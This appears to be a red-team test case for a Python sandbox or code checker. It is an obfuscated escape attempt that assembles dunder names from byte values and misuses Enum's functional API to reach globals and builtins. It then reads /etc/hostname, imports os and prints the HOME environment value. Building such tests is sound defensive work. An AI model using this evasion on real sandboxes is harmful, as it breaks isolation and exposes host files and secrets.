# family: red team, round 37 (calls._enum_call/made_name: Enum(names="A B", **{"value": n}) writes the members out but gives the class name through ** (the keyword with arg None is skipped))
import copy
import enum


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


class Box:
    lookup = classmethod(enum.Enum(names="A B", **{"value": dunder("getattribute")}))


def main():
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
